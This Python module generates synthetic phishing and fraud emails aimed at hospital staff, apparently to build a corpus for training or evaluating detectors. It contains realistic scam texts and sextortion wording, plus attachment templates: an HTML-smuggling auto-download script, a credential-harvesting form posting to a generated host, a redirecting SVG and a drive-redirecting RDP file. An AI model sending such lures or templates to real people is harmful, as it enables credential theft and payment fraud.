"""Fraudulent mail written for measuring and teaching: the lures that hospitals get and that the open sets hardly hold.

Invented, with invented destinations, from a seed: false administrations and health bodies, false meetings, changed bank
details, executives, codes in pictures, attachments of every dangerous kind, hijacked conversations; French and English.
"""

from __future__ import annotations

import random
import string
from collections.abc import Callable, Iterator

from mail_letters import PEOPLE, Draft, calendar, pdf, quoted, sent
from mail_ordinary import Sample

Maker = Callable[[random.Random], tuple[str, int, Draft, str]]


def _stem(dice: random.Random) -> str:
    words = (
        "maison",
        "garage",
        "atelier",
        "nord",
        "plomberie",
        "vitae",
        "solar",
        "trade",
        "casa",
        "brand",
        "zenit",
        "garten",
        "studio",
        "fleur",
    )
    return dice.choice(words) + dice.choice(("", "-")) + dice.choice(words)


def _sender(dice: random.Random) -> str:
    """An address that frauds send from: somebody's mailbox that was broken into, a bought domain, free mail."""
    kind = dice.random()
    local = dice.choice(("info", "contact", "noreply", "service", "notification", "support", "admin", "comptabilite"))
    if kind < 0.45:
        return f"{local}@{_stem(dice)}.{dice.choice(('fr', 'com', 'de', 'com.br', 'co.za', 'it', 'net', 'ro'))}"
    if kind < 0.75:
        return f"{local}{dice.randrange(10, 9999)}@{_stem(dice)}{dice.randrange(99)}.{dice.choice(('top', 'shop', 'xyz', 'online', 'site', 'icu', 'click', 'info'))}"
    name = "".join(dice.choice(string.ascii_lowercase) for _ in range(7))
    return f"{name}{dice.randrange(10, 999)}@{dice.choice(('gmail.com', 'outlook.com', 'hotmail.com', 'yahoo.com', 'gmx.de'))}"


def _page(dice: random.Random, word: str = "") -> str:
    """A destination: a bought domain with a borrowed name, a hosted page, somebody's broken-into site, a shortener, an address."""
    token = f"{dice.getrandbits(40):x}"
    return dice.choice((
        f"https://{word or 'espace'}-{dice.choice(('client', 'verification', 'securite', 'portal', 'update'))}.{dice.choice(('com', 'info', 'online', 'site', 'top', 'net'))}/{token}",
        f"https://{word or 'secure'}-{token[:6]}.{dice.choice(('web.app', 'pages.dev', 'vercel.app', 'netlify.app', 'weebly.com', 'workers.dev'))}/",
        f"https://storage.googleapis.com/{token}/index.html#{dice.getrandbits(120):x}",
        f"https://{_stem(dice)}.{dice.choice(('fr', 'com', 'com.br', 'co.za'))}/wp-content/plugins/{token[:4]}/",
        f"https://{dice.choice(('bit.ly', 'tinyurl.com', 'cutt.ly', 'rb.gy', 't.ly'))}/{token[:6]}",
        f"http://198.51.100.{dice.randrange(2, 250)}/{word or 'login'}/",
    ))  # fmt: skip


LURES = [
    (
        "health body",
        "fr",
        "Assurance Maladie",
        "Votre nouvelle carte Vitale est disponible",
        "Cher(e) assuré(e),|Votre carte Vitale arrive à expiration. Pour continuer à bénéficier de vos droits, mettez à jour vos informations sous 48 heures.|Cordialement, votre caisse d'Assurance Maladie",
        "Mettre à jour mes informations",
        "ameli",
    ),
    (
        "health body",
        "fr",
        "Ameli Pro",
        "Remboursement en attente : action requise",
        "Bonjour,|Suite à un contrôle, un remboursement de 487,20 € est en attente. Complétez le formulaire de remboursement avant expiration du délai.",
        "Accéder à mon compte",
        "amelipro",
    ),
    (
        "health body",
        "fr",
        "Agence du Numérique en Santé",
        "Votre e-CPS sera désactivée",
        "Bonjour,|Votre identité Pro Santé Connect n'a pas été vérifiée. Sans réponse de votre part, votre accès sera suspendu dans les 24 heures.",
        "Vérifier mon identité",
        "prosante",
    ),
    (
        "government",
        "fr",
        "impots.gouv.fr",
        "Avis de remboursement : 312,45 €",
        "Cher contribuable,|Après examen de votre dossier fiscal, vous êtes éligible à un remboursement. Confirmez vos coordonnées bancaires.",
        "Obtenir mon remboursement",
        "impots",
    ),
    (
        "government",
        "fr",
        "ANTAI",
        "Amende impayée : dernier rappel",
        "Madame, Monsieur,|Vous avez une amende impayée de 35 €. Passé ce délai, une majoration sera appliquée. Régularisez votre situation immédiatement.",
        "Régler l'amende",
        "amendes",
    ),
    (
        "delivery",
        "fr",
        "Colissimo",
        "Votre colis est en attente de livraison",
        "Bonjour,|Votre colis n'a pas pu être livré : adresse incomplète. Réglez les frais de livraison de 1,99 € pour planifier une nouvelle livraison.",
        "Planifier la livraison",
        "colissimo",
    ),
    (
        "delivery",
        "en",
        "DHL Express",
        "Your parcel is on hold",
        "Dear customer,|Your package could not be delivered because of unpaid customs fees (2.99 EUR). Confirm the delivery within 48 hours or it will be returned.",
        "Schedule my delivery",
        "dhl",
    ),
    (
        "bank",
        "fr",
        "La Banque Postale",
        "Activez Certicode Plus",
        "Cher client,|Votre service Certicode Plus n'est pas à jour. Votre carte sera bloquée. Connectez-vous pour activer votre service.",
        "Activer",
        "banquepostale",
    ),
    (
        "bank",
        "en",
        "Wells Fargo",
        "Unusual activity on your account",
        "Dear valued customer,|We detected unusual activity. Your account has been limited. Verify your identity immediately to restore access.",
        "Verify now",
        "wellsfargo",
    ),
    (
        "mailbox",
        "fr",
        "Service informatique",
        "Votre boîte aux lettres est pleine",
        "Cher utilisateur,|Votre boîte de réception est pleine, 7 messages en attente n'ont pas été distribués. Validez votre compte pour libérer les messages.",
        "Récupérer mes messages",
        "webmail",
    ),
    (
        "mailbox",
        "en",
        "IT Help Desk",
        "Password expires today",
        "Dear user,|Your password expires today. Keep the same password by confirming below, otherwise your mailbox will be deactivated.",
        "Keep same password",
        "webmail",
    ),
    (
        "mailbox",
        "en",
        "Microsoft 365",
        "(3) messages on hold",
        "Incoming messages are pending because of a sync error.|Release pending messages to your inbox within 24 hours.",
        "Release messages",
        "microsoft",
    ),
    (
        "document",
        "en",
        "DocuSign",
        "Completed: remittance advice",
        "You have received a secure document to review and sign.|Please review before it expires today.",
        "REVIEW DOCUMENT",
        "docusign",
    ),
    (
        "document",
        "fr",
        "SharePoint",
        "Un document a été partagé avec vous",
        "Bonjour,|La direction a partagé un document : grille des salaires 2025. Connectez-vous avec votre adresse professionnelle pour consulter le document.",
        "Ouvrir le document",
        "sharepoint",
    ),
    (
        "voice",
        "en",
        "Voicemail",
        "New voice message (0:42)",
        "You have a missed call and a new voice message from +33 1 86 26 00 00.|Listen to the message before it is deleted.",
        "Play message",
        "voice",
    ),
    (
        "meeting",
        "fr",
        "Microsoft Teams",
        "Vous avez manqué une réunion Teams",
        "Bonjour,|Vous êtes attendu dans une réunion Teams urgente avec la direction. Cliquez ci-dessous pour rejoindre.",
        "Rejoindre la réunion",
        "teams",
    ),
    (
        "meeting",
        "en",
        "Zoom",
        "Zoom: your meeting has been suspended",
        "Your Zoom account has been suspended. Join the HR meeting within one hour to avoid termination.",
        "Join meeting",
        "zoom",
    ),
    (
        "pacs update",
        "fr",
        "Support PACS",
        "Mise à jour urgente de votre client PACS",
        "Bonjour,|Une faille critique a été corrigée. Installez immédiatement la mise à jour du visualiseur sur votre poste, sans quoi l'accès aux images sera coupé.",
        "Télécharger la mise à jour",
        "pacs",
    ),
    (
        "pacs update",
        "en",
        "PACS Support",
        "Critical update for your viewer",
        "Hello,|A security update of the image viewer must be installed immediately. Your access will be disabled otherwise.",
        "Download update",
        "pacs",
    ),
    (
        "payroll",
        "en",
        "Human Resources",
        "Updated payroll and benefits enrollment",
        "Dear colleague,|Action required: review and sign the salary adjustment document by today. Failure to do so will delay your payment.",
        "View document",
        "hr",
    ),
]


def lure(dice: random.Random) -> tuple[str, int, Draft, str]:
    """A letter in a borrowed name with one thing to click."""
    at = dice.randrange(len(LURES))
    kind, language, display, subject, text, label, word = LURES[at]
    address = (
        _sender(dice)
        if dice.random() < 0.75
        else f"{dice.choice(('noreply', 'service'))}@{word}-{dice.choice(('info', 'secure', 'client', 'sante'))}.{dice.choice(('com', 'fr', 'info', 'net'))}"
    )
    draft = Draft(
        display,
        address,
        subject,
        text.split("|"),
        [(label, _page(dice, word))],
        html=dice.random() < 0.9,
        plain_too=dice.random() < 0.3,
    )
    if dice.random() < 0.3:
        draft.headers["X-PHP-Originating-Script"] = "0:mailer.php"
    draft.authenticated = dice.choice(("pass", "pass", "fail", ""))
    return language, at, draft, kind


def _executive(dice: random.Random) -> tuple[str, int, Draft, str]:
    rows = [
        ("fr", "Disponible ?", "Bonjour,|Êtes-vous disponible ? J'ai besoin de vous pour une tâche urgente. Je suis en réunion et ne peux pas parler, répondez-moi par mail.|{name}"),
        ("fr", "Opération confidentielle", "Bonjour,|Dans le cadre d'une acquisition, je vous demande de procéder au virement de 38 400 € aujourd'hui. Cette opération est strictement confidentielle.|{name}, direction"),
        ("fr", "Cartes cadeaux", "Bonjour,|Pouvez-vous acheter 5 cartes cadeaux de 100 € pour l'équipe ? Envoyez-moi les codes, je vous rembourse ce soir. Cela reste entre nous.|{name}"),
        ("en", "Quick task", "Hi,|Are you available? I need you to handle a quick task. I'm in a meeting and can't talk, reply with your cell number.|{name}"),
        ("en", "Urgent payment", "Hi,|Please process a payment of $24,800 today, I will send the details of the beneficiary. Keep this confidential until I am back.|{name}"),
        ("en", "Direct deposit", "Hello,|I would like to update my direct deposit before the next payroll. I changed my bank. What do you need from me?|{name}"),
    ]  # fmt: skip
    at = dice.randrange(len(rows))
    language, subject, text = rows[at]
    name = dice.choice(PEOPLE)
    draft = Draft(
        name,
        f"{dice.choice(('direction', 'office', 'ceo', 'bureau'))}{dice.randrange(9999)}@{dice.choice(('gmail.com', 'outlook.com', 'mail.com', 'proton.me'))}",
        subject,
        text.format(name=name).split("|"),
    )
    if dice.random() < 0.4:
        draft.address, draft.reply_to = f"contact@{_stem(dice)}.com", draft.address
    return language, at, draft, "executive"


def _bank(dice: random.Random) -> tuple[str, int, Draft, str]:
    rows = [
        ("fr", "Changement de RIB", "Bonjour,|Nous vous informons du changement de nos coordonnées bancaires. Merci d'utiliser le nouveau RIB pour vos prochains règlements :|IBAN FR76 3000 6000 0112 3456 7890 189|Notre ancien compte est clôturé.|Service comptabilité"),
        ("fr", "RE: Facture en attente", "Bonjour,|Merci de ne plus utiliser l'ancien compte. Notre nouvelle domiciliation bancaire est la suivante, merci de mettre à jour nos coordonnées :|IBAN DE89 3704 0044 0532 0130 00|Bien cordialement"),
        ("en", "Change of bank details", "Dear sir,|Please note that we changed our bank. All future payments must go to our new bank account:|IBAN GB29 NWBK 6016 1331 9268 19|The old account is under audit, do not use it.|Accounts receivable"),
        ("en", "RE: overdue invoice", "Hello,|Before you pay the invoice, please update your records with our new banking details. Our previous account can no longer be used.|IBAN FR14 2004 1010 0505 0001 3M02 606|Regards"),
    ]  # fmt: skip
    at = dice.randrange(len(rows))
    language, subject, text = rows[at]
    firm = dice.choice(("Medisupply", "Helio Imaging", "Oxymed", "Contrast Solutions"))
    address = dice.choice(
        (
            f"{firm.lower().replace(' ', '')}{dice.randrange(99)}@{dice.choice(('gmail.com', 'outlook.com'))}",
            f"compta@{firm.lower().replace(' ', '-')}s.com",
            f"facturation@{_stem(dice)}.fr",
        )
    )
    draft = Draft(
        f"{firm} comptabilité" if language == "fr" else f"{firm} Accounts",
        address,
        subject,
        text.split("|"),
        html=dice.random() < 0.5,
    )
    if dice.random() < 0.5:
        draft.reply_to = f"compta.{firm.lower().replace(' ', '')}@{dice.choice(('gmail.com', 'mail.com'))}"
    if dice.random() < 0.4:
        draft.files = [("RIB.pdf", "application/pdf", pdf(text="RIB"))]
    return language, at, draft, "bank details"


def code_picture(url: str, scale: int = 6) -> bytes:
    """A PNG with a QR code of ``url`` (needs zxing-cpp and Pillow)."""
    import io

    import numpy
    import zxingcpp
    from PIL import Image

    code = zxingcpp.create_barcode(url, zxingcpp.BarcodeFormat.QRCode)
    image = Image.fromarray(numpy.asarray(zxingcpp.write_barcode_to_image(code, scale=scale)))
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def _code(dice: random.Random) -> tuple[str, int, Draft, str]:
    rows = [
        ("fr", "Authentification à deux facteurs : action requise", "Bonjour,|Votre authentification multifacteur expire aujourd'hui. Scannez le code QR avec votre téléphone pour la réactiver."),
        ("en", "MFA enrolment required", "Hello,|Your multi-factor authentication expires today. Scan the QR code with your phone to keep your access."),
        ("en", "Updated salary document", ""),
        ("fr", "Bulletin de paie rectificatif", ""),
    ]  # fmt: skip
    at = dice.randrange(len(rows))
    language, subject, text = rows[at]
    picture = code_picture(_page(dice, "mfa"))
    draft = Draft(
        dice.choice(("Service informatique", "IT Support", "Human Resources")),
        _sender(dice),
        subject,
        [t for t in text.split("|") if t],
        html=True,
        inline=[("qr@x", picture)],
    )
    return language, at, draft, "QR code"


_SMUGGLE = b"<html><body><script>var d='UEsDBBQAAQAI';var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='facture.zip';a.click();</script></body></html>"
_LOGON = b"<html><body><h3>Sign in</h3><form action='https://%s/p.php' method='post'><input type='email' name='login' value='x'><input type='password' name='passwd'><input type='submit'></form></body></html>"
_SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"window.location.href='https://%s/'\"><script>//<![CDATA[\nlocation='https://x'\n//]]></script></svg>"


def _file(dice: random.Random) -> tuple[str, int, Draft, str]:
    host = f"{_stem(dice)}.{dice.choice(('top', 'ru', 'com'))}"
    zipped = b"PK\x03\x04\x14\x00\x01\x00\x08\x00" + dice.randbytes(300)
    files: list[tuple[str, str, bytes]] = [
        ("Facture_2291.html", "text/html", _SMUGGLE),
        ("VM_00234.htm", "text/html", _LOGON.replace(b"%s", host.encode())),
        ("remittance.svg", "image/svg+xml", _SVG.replace(b"%s", host.encode())),
        ("Commande.iso", "application/octet-stream", b"\x00" * 0x8000 + b"\x01CD001\x01\x00" + b"\x00" * 2_000),
        ("Invoice.pdf.lnk", "application/octet-stream", b"L\x00\x00\x00\x01\x14\x02\x00" + dice.randbytes(200)),
        ("compte-rendu.one", "application/octet-stream", b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + dice.randbytes(200)),
        ("acces.rdp", "application/x-rdp", b"full address:s:rdp.%s\r\nprompt for credentials:i:1\r\nredirectdrives:i:1\r\n" % host.encode()),
        ("dossier.zip", "application/zip", zipped),
        ("facture.docm", "application/vnd.ms-word.document.macroEnabled.12", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"word/vbaProject.bin" + dice.randbytes(200)),
        ("facture.js", "application/javascript", b"var s=new ActiveXObject('WScript.Shell');s.Run('x');"),
        ("Commande_urgente.pdf", "application/pdf", pdf(f"https://{host}/dl", "Cliquez pour ouvrir")),
    ]  # fmt: skip
    at = dice.randrange(len(files))
    texts = [
        ("fr", "Facture impayée", "Bonjour,|Veuillez trouver ci-joint la facture en attente. Merci de régler sans délai."),
        ("en", "Remittance advice", "Dear sir,|Please find attached the payment advice for your confirmation."),
        ("fr", "Nouveau bon de commande", "Bonjour,|Merci de vérifier la commande ci-jointe et de confirmer en urgence."),
    ]
    language, subject, text = dice.choice(texts)
    paragraphs = text.split("|") + (["Mot de passe : 2025"] if files[at][0].endswith(".zip") else [])
    draft = Draft(
        dice.choice(("Comptabilité", "Accounts", "Service achats")),
        _sender(dice),
        subject,
        paragraphs,
        files=[files[at]],
        html=dice.random() < 0.5,
    )
    return language, at, draft, f"file {files[at][0].rpartition('.')[2]}"


def _invitation(dice: random.Random) -> tuple[str, int, Draft, str]:
    url = _page(dice, "teams")
    draft = Draft(
        dice.choice(("Microsoft Teams", "Zoom", "Webex")),
        _sender(dice),
        dice.choice(("Réunion urgente : restructuration du service", "HR meeting: termination review")),
        ["Rejoindre la réunion / Join"],
        [("Join", url)],
        html=True,
        calendar=calendar("HR", "hr@corp-meeting.top", url),
    )
    return "en", 0, draft, "invitation"


def _hijack(dice: random.Random) -> tuple[str, int, Draft, str]:
    """An answer in somebody's conversation, which it quotes: from elsewhere under his name, or from his own mailbox."""
    language = dice.choice(("fr", "en"))
    at = dice.randrange(6)
    text = (
        ("Bonjour,|Comme convenu, voici le document à consulter.", "Bonjour,|Merci de regarder la pièce ci-dessous au plus vite.", "Bonjour,|Le devis corrigé.")
        if language == "fr"
        else ("Hello,|As discussed, please see the document below.", "Hi,|Please look at the file below and get back to me.", "Hello,|The corrected quote.")
    )[at % 3]  # fmt: skip
    name, other = dice.sample(PEOPLE, 2)
    house = dice.choice(("labo-meridian.example", "imagerie-valmont.example", "helio-imaging.example", "oxymed.example"))
    theirs = f"{name.lower().replace(' ', '.')}@{house}"
    mine = f"{other.lower().replace(' ', '.')}@{dice.choice(('chu-valmont.example', 'northvale-hospital.example'))}"
    broken_in = dice.random() < 0.3
    subject = dice.choice(("Planning des gardes", "CT list tomorrow", "Devis maintenance", "Invoice query", "Compte rendu"))
    draft = Draft(name, theirs if broken_in else _sender(dice), "RE: " + subject, text.split("|"), html=dice.random() < 0.6)
    draft.answers = broken_in or dice.random() < 0.5
    secret = f"{dice.choice(('Mot de passe :', 'Le mot de passe est') if language == 'fr' else ('Password:', 'The password is'))} {dice.randrange(1000, 99999)}"
    if at < 4:
        draft.links = [("Document", _page(dice, "docs"))]
        if at < 2:
            draft.paragraphs.append(secret)
    elif at == 4:
        draft.files = [
            (f"doc_{dice.randrange(999)}.zip", "application/zip", b"PK\x03\x04\x14\x00\x01\x00\x08\x00" + dice.randbytes(300))
        ]
        draft.paragraphs.append(secret)
    else:
        draft.files = [("document.html", "text/html", _SMUGGLE)]
    draft.quoted = quoted(language, (name, theirs), (other, mine), subject)
    return language, 2 * at + broken_in, draft, "hijacked conversation, own mailbox" if broken_in else "hijacked conversation"


def _extort(dice: random.Random) -> tuple[str, int, Draft, str]:
    rows = [
        ("fr", "J'ai piraté votre appareil", "Bonjour,|J'ai piraté votre appareil et enregistré une vidéo de vous avec votre webcam sur des sites pour adultes. Payez 900 € en bitcoin sous 48 heures ou je l'envoie à tous vos contacts.|Mon adresse bitcoin : bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"),
        ("en", "I have full access to your device", "Hello,|I hacked your device and recorded a video with your webcam while you visited adult sites. Send $1200 to my bitcoin wallet within 48 hours or I send the video to all your contacts.|bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"),
        ("fr", "Convocation judiciaire", "Madame, Monsieur,|La brigade de protection des mineurs vous adresse cette convocation judiciaire pour pédopornographie. Répondez sous 72 heures sous peine de mandat d'arrêt et de poursuites judiciaires."),
    ]  # fmt: skip
    at = dice.randrange(len(rows))
    language, subject, text = rows[at]
    return (
        language,
        at,
        Draft(
            dice.choice(("", "Anonymous", "Direction centrale de la police judiciaire")),
            _sender(dice),
            subject,
            text.split("|"),
        ),
        "extortion",
    )


MAKERS: tuple[tuple[Maker, int], ...] = (
    (_executive, 2),
    (_bank, 2),
    (_code, 2),
    (_file, 4),
    (_invitation, 1),
    (_hijack, 4),
    (_extort, 1),
)


def frauds(count: int, seed: int = 11) -> Iterator[Sample]:
    """``count`` fraudulent messages, the same for the same seed."""
    dice = random.Random(seed)
    bag = [maker for maker, share in MAKERS for _ in range(share)]
    for number in range(count):
        language, variant, draft, kind = (lure if dice.random() < 0.5 else dice.choice(bag))(dice)
        yield Sample(kind, language, variant, sent(draft, dice, number))
